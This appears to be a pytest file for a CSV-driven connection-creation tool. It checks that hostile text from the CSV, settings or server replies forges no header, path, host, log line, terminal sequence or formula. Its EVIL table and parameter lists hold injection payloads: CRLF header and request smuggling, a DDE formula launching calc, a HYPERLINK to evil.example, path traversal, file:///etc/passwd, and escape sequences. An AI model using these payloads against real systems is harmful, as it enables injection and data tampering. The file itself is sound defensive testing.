"""Text of others (a CSV, a server) is text and nothing else: it forges no header, path, host,
log line, terminal sequence or formula.
"""

import csv
import itertools
import json
import re
import uuid
from urllib.parse import parse_qsl, unquote, urlsplit

import pytest
from raw_server import RawServer, http
from runs import results_of
from support import BASE_PATH, environment, instances, read_results, snowmelt, statuses, write_csv
from test_terminal import Terminal

EVIL = {
    "header": "a\r\nX-Evil: 1",
    "request": "a\r\n\r\nDELETE /data/foundation/flowservice/connections/x HTTP/1.1\r\nHost: x",
    "log line": "a\n2026-01-01T00:00:00.000Z error forged",
    "carriage": "a\rforged",
    "screen": "a\x1b[2J\x1b[1;31mred\x1b]0;title\x07",
    "eight bits": "a\u009b31mred\u009d0;title\u009c",
    "formula": "=HYPERLINK(\"http://evil.example/\"&A1)",
    "at": "@SUM(1)",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "tab": "\t=1+1",
    "path": "../../../connections",
    "query": "a&property=name==b&limit=1#x?y",
    "percent": "%0d%0aX-Evil:%201%2e%2e%2f",
    "separator": "a,b|c==d;e",
    "quotes": 'a"b\'c\\d',
    "markup": "<script>alert(1)</script>",
}
# What no terminal should get: C0 but newline and tab, DEL, and C1 as UTF-8.
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f\x80-\x9f]")
LOG_LINE = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z (error|warn|info|debug|trace) ")
HEADS = {"accept", "authorization", "content-length", "content-type", "host", "x-api-key",
         "x-gw-ims-org-id", "x-sandbox-name"}


def servers_view(server):
    """Every request had our headers and no more, and asked for what we ask for."""
    for head in server.heads:
        assert set(head) <= HEADS, head
        assert head["x-sandbox-name"] == "prod"
    for method, target in server.targets:
        assert method in ("GET", "POST")
        assert urlsplit(target).path == BASE_PATH + "/connections", target
        assert re.fullmatch(r"[!-~]+", target)


class Recorder(RawServer):
    """Creates everything, in its own words where the test has some."""

    def __init__(self, act=None, look=None):
        self.targets = []
        super().__init__(act or (lambda server, _, request: server.execute(request[3])), look)

    def _answer(self, count, request):
        self.targets.append(request[:2])
        return super()._answer(count, request)


@pytest.fixture
def recorder():
    started = []

    def start(*args, **more):
        started.append(Recorder(*args, **more))
        return started[-1]

    yield start
    for one in started:
        one.stop()


FAST = ("--settle", "50ms", "--settle-timeout", "100ms", "--attempts", 2)


def evil_rows():
    """Every text in every field that may hold it."""
    for text in EVIL.values():
        yield [text, "https://a.example.com", text, "pass-word", text, text]


def run(folder, server, rows, header, *args, expect=0):
    path = write_csv(folder / "i.csv", rows, header=header, quoting=csv.QUOTE_ALL)
    done = snowmelt("run", path, "--url", server.url, *FAST, "--log-level", "trace", *args,
                    expect=expect)
    return path, done


HEADER = ["name", "endpoint", "username", "password", "description", "note"]


def assert_shown_harmless(done):
    for text in (done.out, done.err):
        assert not CONTROL.search(text), CONTROL.search(text)
    for line in done.err.splitlines():
        assert LOG_LINE.match(line) or line.startswith("snowmelt: "), line
    assert not any("Z error forged" in line[:40] for line in done.err.splitlines())


def test_text_of_a_csv_is_text_everywhere(recorder, tmp_path):
    server = recorder()
    rows = list(evil_rows())
    path, done = run(tmp_path, server, rows, HEADER)
    servers_view(server)
    sent = [(one["name"], one["description"], one["auth"]["params"]["username"])
            for one in server.executed]
    assert sorted(sent) == sorted((row[0], row[4], row[2]) for row in rows)
    assert_shown_harmless(done)
    lines = results_of(path)
    assert [(line["name"], line["note"]) for line in lines] == [(r[0], r[5]) for r in rows]
    for command in ("status", "results"):
        assert_shown_harmless(snowmelt(command, path, "--url", server.url))


def test_lookups_ask_for_the_name_and_nothing_else(recorder, tmp_path):
    """Every create but one clashes, so that every name is looked for."""

    def act(server, count, request):
        if json.loads(request[3])["name"] == "calibrates":
            return server.execute(request[3])
        return http(409, '{"message":"is there already"}')

    server = recorder(act)
    rows = [["calibrates", "https://a.example.com", "user", "pass-word", "", ""], *evil_rows()]
    path, done = run(tmp_path, server, rows, HEADER, "--no-inventory", expect=1)
    servers_view(server)
    assert statuses(results_of(path)) == {"created": 1, "failed": len(EVIL)}
    asked = set()
    for method, target in server.targets:
        fields = parse_qsl(urlsplit(target).query)
        names = [value.removeprefix("name==") for _, value in fields if value.startswith("name==")]
        assert len(names) <= 1 and {key for key, _ in fields} <= {
            "property", "limit", "count", "orderby", "continuationToken"}
        asked |= set(names)
    assert asked <= {"calibrates", *EVIL.values()}
    assert sum(method == "GET" for method, _ in server.targets) > 1
    assert_shown_harmless(done)


@pytest.mark.parametrize("column, bad", [
    *itertools.product(["sandbox"], ["prod\r\nX-Evil: 1", "a b", "../prod", "ö", "=1+1"]),
    *itertools.product(["endpoint"], [
        "https://a.example.com\r\nX-Evil: 1", "https://a.example.com/path",
        "https://u:p@a.example.com",
        "https://a.example.com?x=1", "https://a.example.com#x", "https://a.exa mple.com",
        "https://a.example.com\\@evil.example", "javascript:alert(1)", "file:///etc/passwd"]),
    *itertools.product(["connection_spec_id"], ["../x", "a\r\nb", "=1+1"])])
def test_a_field_that_becomes_a_header_a_host_or_a_path_is_refused(recorder, tmp_path, column, bad):
    server = recorder()
    row = dict(zip(HEADER, instances(1)[0] + ["", ""])) | {column: bad}
    _, done = run(tmp_path, server, [list(row.values())], list(row), expect=1)
    assert statuses(read_results(tmp_path / "i.results.csv")) == {"invalid": 1}
    assert server.targets == []
    assert_shown_harmless(done)


@pytest.mark.parametrize("name", ["AEP_ORG_ID", "AEP_API_KEY", "AEP_ACCESS_TOKEN",
                                  "AEP_SANDBOX_NAME"])
@pytest.mark.parametrize("bad", ["a\r\nX-Evil: 1", "a\nb", "a\x1b[2Jb", "a\tb"])
def test_a_setting_that_becomes_a_header_is_refused(recorder, tmp_path, name, bad):
    server = recorder()
    path = write_csv(tmp_path / "i.csv", instances(1))
    done = snowmelt("run", path, "--url", server.url, env=environment(**{name: bad}), expect=3)
    assert server.targets == []
    assert_shown_harmless(done)


def test_formulas_are_defused_where_it_was_asked_for(recorder, tmp_path):
    server = recorder()
    path, _ = run(tmp_path, server, evil_rows(), HEADER, "--excel-safe")
    assert {one["name"] for one in server.executed} == set(EVIL.values())
    with open(path.with_suffix(".results.csv"), newline="", encoding="utf-8") as f:
        for line in itertools.islice(csv.reader(f), 1, None):
            for field in line:
                assert not field.startswith(("=", "+", "-", "@", "\t", "\r")), line


# ------------------------------------------------------------- text of a server


def texts():
    """In JSON strings; a lone surrogate or a NUL is for the parser's own tests."""
    return [pytest.param(text, id=kind) for kind, text in EVIL.items()]


@pytest.mark.parametrize("text", texts())
def test_what_a_server_says_is_shown_harmless(recorder, tmp_path, text):
    def act(server, count, request):
        flow = {"type": f"https://ns.adobe.com/aep/errors/FLOW-{text}", "title": text,
                "report": {"detailed-message": text, "request-id": text}, "errorMessage": text}
        answers = [flow, {"error_code": text, "message": text}, {"message": text}]
        return http(400, json.dumps(answers[server.posts % 3]))

    server = recorder(act)
    path, done = run(tmp_path, server, instances(3), None, "--excel-safe", expect=1)
    servers_view(server)
    assert_shown_harmless(done)
    for line in results_of(path):
        for field in line.values():
            assert not field.startswith(("=", "+", "-", "@", "\t", "\r")), line
    assert_shown_harmless(snowmelt("status", path, "--url", server.url))


def test_an_id_that_is_none_is_never_used(recorder, tmp_path):
    """A 201 with it is no answer, and a listing with it no finding."""
    kinds = list(EVIL)

    def text_for(name):
        return EVIL[name] if name in EVIL else "x"

    def act(server, count, request):
        text = text_for(json.loads(request[3])["name"])
        return http(201, json.dumps({"id": text, "etag": text}))

    def look(server, count, request):
        if "count=true" in request[1]:
            return http(200, json.dumps({"count": 1}))
        wanted = dict(v.split("==", 1) for k, v in parse_qsl(urlsplit(request[1]).query)
                      if k == "property")
        name = wanted.get("name", kinds[0])
        item = {"id": text_for(name), "etag": text_for(name), "name": name,
                "connectionSpec": {"id": wanted["connectionSpec.id"]}}
        return http(200, json.dumps({"items": [item], "_links": {}}))

    server = recorder(act, look)
    rows = [instances(1)[0] for _ in kinds]
    for row, kind in zip(rows, kinds):
        row[0] = kind
    path, done = run(tmp_path, server, rows, None, "--no-inventory", "--attempts", 1,
                     "--concurrency", 64, expect=1)
    servers_view(server)
    assert_shown_harmless(done)
    assert {line["id"] for line in results_of(path)} == {""}


@pytest.mark.parametrize("text", texts())
def test_an_etag_is_kept_as_text_and_forges_nothing(recorder, tmp_path, text):
    server = recorder(lambda *_: http(201, json.dumps({"id": str(uuid.uuid4()), "etag": text})))
    path, done = run(tmp_path, server, instances(2), None, "--no-inventory")
    servers_view(server)
    assert_shown_harmless(done)
    assert len(results_of(path)) == 2


@pytest.mark.parametrize("text", texts())
def test_a_next_link_gives_its_token_and_nothing_else(recorder, tmp_path, text):
    """The token goes back as it was, escaped; host, path and other arguments are ours."""
    pages = itertools.count()

    def look(server, count, request):
        if "count=true" in request[1]:
            return http(200, json.dumps({"count": 0}))
        link = {"href": f"https://evil.example/{text}?continuationToken={quoted}&limit=1&evil=1"}
        links = {"next": link} if next(pages) == 0 else {}
        return http(200, json.dumps({"items": [], "_links": links}))

    quoted = "".join(f"%{byte:02X}" for byte in text.encode())
    server = recorder(look=look)
    _, done = run(tmp_path, server, instances(1), None)
    servers_view(server)
    assert_shown_harmless(done)
    tokens = [value for _, target in server.targets
              for key, value in parse_qsl(urlsplit(target).query) if key == "continuationToken"]
    assert tokens in ([text], [])  # taken as it is, or not believed
    assert not any("evil=" in target for _, target in server.targets)


@pytest.mark.parametrize("text", ["\x1b[2J", "a\tb", "\x9b31m", "=1+1", "é"])
@pytest.mark.parametrize("name", ["x-request-id", "Retry-After", "Date"])
def test_a_header_of_a_server_is_shown_harmless(recorder, tmp_path, name, text):
    server = recorder(lambda *_: http(400, '{"message":"no"}', f"{name}: {text}"))
    path, done = run(tmp_path, server, instances(2), None, "--excel-safe", expect=1)
    assert_shown_harmless(done)
    for line in results_of(path):
        assert not line["request_id"].startswith("=")


def test_a_terminal_gets_no_sequence_of_others(recorder, tmp_path):
    def act(server, count, request):
        text = " ".join(EVIL.values())
        return http(400, json.dumps({"error_code": text, "message": text}))

    path = write_csv(tmp_path / "i.csv", evil_rows(), header=HEADER, quoting=csv.QUOTE_ALL)
    terminal = Terminal("run", path, "--url", recorder(act).url, *FAST, "--log-level", "trace")
    assert terminal.wait() == 1
    ours = terminal.seen.replace("\r\n", "\n").replace("\r\x1b[K", "")
    assert not CONTROL.search(ours), CONTROL.search(ours)


def test_a_question_on_a_terminal_shows_no_sequence_of_others(recorder, tmp_path):
    path = write_csv(tmp_path / "i\x1b[2J.csv", instances(1))
    terminal = Terminal("run", path, "--url", recorder().url, "--confirm")
    terminal.read_until("?")
    terminal.type("n\n")
    terminal.wait()
    assert "\x1b[2J" not in terminal.seen


def test_unquoted_names_are_what_they_seem():
    """The tests' own texts hold what they are for."""
    assert "\r\n" in unquote(EVIL["percent"])
    assert all(CONTROL.search(EVIL[kind]) for kind in ("screen", "eight bits", "carriage"))
